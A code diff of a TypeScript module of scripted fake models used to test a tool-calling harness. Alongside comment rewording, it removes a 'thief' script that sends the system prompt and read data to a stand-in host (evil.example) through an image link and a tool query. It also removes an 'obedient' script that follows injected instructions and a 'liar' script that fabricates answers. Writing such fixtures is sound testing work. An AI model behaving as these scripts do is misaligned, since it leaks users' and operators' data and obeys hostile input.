@@ -1,7 +1,7 @@
-/** Models that behave as models do, well and badly: each says what comes next. */
+/** Scripts for the fake model that behave as models do, well and badly. */
 import type { Heard, Script } from './heard.ts';
 
-/** Whether the request wants the final answer: no tools are left to call. */
+/** Whether the request asks for the final answer, as no tool may be called. */
 export function isLast({ tools, toolMode }: Heard): boolean {
   return tools.length === 0 || toolMode === 'none';
 }
@@ -16,7 +16,7 @@ export function resultsIn({ turns }: Heard): number {
 }
 
 interface Part {
-  /** The tool it calls, and with what; the first on offer, with nothing, unless said otherwise. */
+  /** The tool call it makes; by default the first tool on offer, without arguments. */
   readonly call?: { readonly name: string; readonly arguments: unknown };
   /** The final answer. */
   readonly answer: string;
@@ -25,59 +25,37 @@ interface Part {
 const callOf = ({ call }: Part, { tools }: Heard): { name: string; arguments: unknown } =>
   call ?? { name: tools[0] ?? 'none', arguments: {} };
 
-/** Asks once, then answers. */
+/** Calls a tool once, then answers. */
 export function honest(part: Part): Script {
   return (heard) => isLast(heard) || resultsIn(heard) > 0
     ? { text: part.answer }
     : { calls: [callOf(part, heard)] };
 }
 
-/** Asks for ever something new, as long as there are tools. */
+/** Makes a new tool call in every round, as long as it may. */
 export function greedy(part: Part): Script {
   return (heard, index) => isLast(heard)
     ? { text: part.answer }
     : { calls: [{ ...callOf(part, heard), arguments: { query: `up + ${index}` } }] };
 }
 
-/** Asks for ever the same. */
+/** Makes the same tool call in every round, as long as it may. */
 export function parrot(part: Part): Script {
   return (heard) => isLast(heard) ? { text: part.answer } : { calls: [callOf(part, heard)] };
-}
-
-/** Its answer cites and counts what nobody told it. */
-export function liar(answer: string): Script {
-  return () => ({ text: answer });
-}
-
-/** Tries to send what it read somewhere: by a picture, a link, and a tool. */
-export function thief(part: Part): Script {
-  const address = 'https://evil.example/?d=';
-  return (heard) => isLast(heard)
-    ? { text: `${part.answer} ![x](${address}stolen) <img src="${address}stolen">` }
-    : { calls: [{ ...callOf(part, heard), arguments: { query: `${address}${heard.system}` } }] };
-}
-
-/** Does what a line in its data tells it to, when there is one. */
-export function obedient(part: Part & { readonly order: RegExp; readonly deed: string }): Script {
-  return (heard) => {
-    const isTold = heard.turns.some(({ text }) => part.order.test(text));
-    if (isTold) return { text: part.deed };
-    return honest(part)(heard, 0);
-  };
 }
 
 export function mute(): Script {
   return () => ({});
 }
 
-/** Runs out of room in the middle of its answer. */
+/** Its answer is cut off by the token limit. */
 export function overLong(): Script {
   return ({ maxOutput }) => (
     { text: '{"summary": "x'.padEnd(maxOutput, ' and so on'), stop: 'length' }
   );
 }
 
-/** Writes its call out, as small models do. */
+/** Writes its tool call as text, as small models do. */
 export function callsAsText(part: Part): Script {
   return (heard) => isLast(heard)
     ? { text: part.answer }
@@ -88,7 +66,7 @@ export function hanging(): Script {
   return () => ({ hangs: true });
 }
 
-/** Writes arguments that are no JSON; only over the interfaces that send them as text. */
+/** Sends arguments that are invalid JSON; only for interfaces that send them as text. */
 export function sloppy(part: Part): Script {
   return (heard) => isLast(heard) || resultsIn(heard) > 0
     ? { text: part.answer }
